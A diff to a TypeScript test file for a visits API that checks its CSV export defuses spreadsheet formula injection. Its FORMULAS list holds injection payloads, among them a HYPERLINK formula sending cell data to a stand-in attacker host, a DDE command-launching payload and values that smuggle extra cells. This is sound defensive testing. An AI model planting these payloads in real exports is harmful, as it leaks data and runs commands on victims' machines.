@@ -16,6 +16,8 @@ const VISITS = defineList({
   filters: { status: among('status', Type.Enum(['open', 'closed'])), dayFrom: fromDay('day'), traceNumber: equal('trace_number', Type.String({ maxLength: 50 })) },
 });
 const LAST = 1_203;
+/** What spreadsheets, those with wide characters among them, take for a formula or for the beginning of another cell. */
+const FORMULAS = ['=1+1,"x"', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '=HYPERLINK("https://evil.example.test/?"&A1)', "=cmd|' /C calc'!A0", '"\n=1+1', 'x\n=1+1', 'x","=1+1', '=1+1\r\nv9,=1+1'];
 
 @Controller('v1')
 class VisitsController {
@@ -27,7 +29,7 @@ class VisitsController {
     VisitsController.wanted.push(wanted);
     const from = Number(wanted.cursor ?? 0);
     if (from >= VisitsController.breakAt) throw new TypeError('canary-in-a-message');
-    const items = Array.from({ length: Math.min(wanted.limit, LAST - from) }, (_, i) => ({ id: `v${from + i}`, day: '2026-03-01', traceNumber: 'TRN-9', ...(i === 0 && { note: '=1+1,"x"' }), parts: ['a'] }));
+    const items = Array.from({ length: Math.min(wanted.limit, LAST - from) }, (_, i) => ({ id: `v${from + i}`, day: '2026-03-01', traceNumber: 'TRN-9', ...(FORMULAS[from + i] !== undefined && { note: FORMULAS[from + i] }), parts: ['a'] }));
     return from + wanted.limit < LAST ? { items, nextCursor: String(from + wanted.limit) } : { items };
   }
 
@@ -87,9 +89,18 @@ describe('a list', () => {
     expect(lines.map(({ id }) => id)).toEqual(Array.from({ length: LAST }, (_, i) => `v${i}`));
     const csv = await get('/v1/visits', { accept: 'text/csv' });
     expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-    const [names, first, second, ...others] = (await csv.text()).trimEnd().split('\n');
-    expect([names, first, second]).toEqual(['id,day,note,traceNumber,parts', `v0,2026-03-01,"'=1+1,""x""",TRN-9,"[""a""]"`, 'v1,2026-03-01,,TRN-9,"[""a""]"']);
-    expect(others).toHaveLength(LAST - 2);
+    const text = await csv.text();
+    expect(text.slice(0, text.indexOf('\nv2,'))).toBe(`id,day,note,traceNumber,parts\nv0,2026-03-01,"'=1+1,""x""",TRN-9,"[""a""]"\nv1,2026-03-01,'+1+1,TRN-9,"[""a""]"`);
+    expect(text.match(/^v\d+,2026-03-01/gm)).toHaveLength(LAST);
+  });
+
+  it('has no cell in CSV that a spreadsheet would take for a formula, nor one more or fewer than it should', async () => {
+    const csv = await (await get('/v1/visits?fields=id,note', { accept: 'text/csv' })).text();
+    // RFC 4180: a cell is quoted whole or has no quote, comma or line end; a record ends at a line end outside of quotes.
+    const cells = [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\n)/g)].map(([, quoted, bare]) => (quoted ?? bare ?? '').replaceAll('""', '"'));
+    expect(cells).toHaveLength(2 * (LAST + 1));
+    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    expect(FORMULAS.map((_, i) => cells[2 * (i + 1) + 1]?.replace(/^'/, ''))).toEqual(FORMULAS);
   });
 
   it('holds in every form only what the caller\'s role needs, and is not searched by what it does not', async () => {
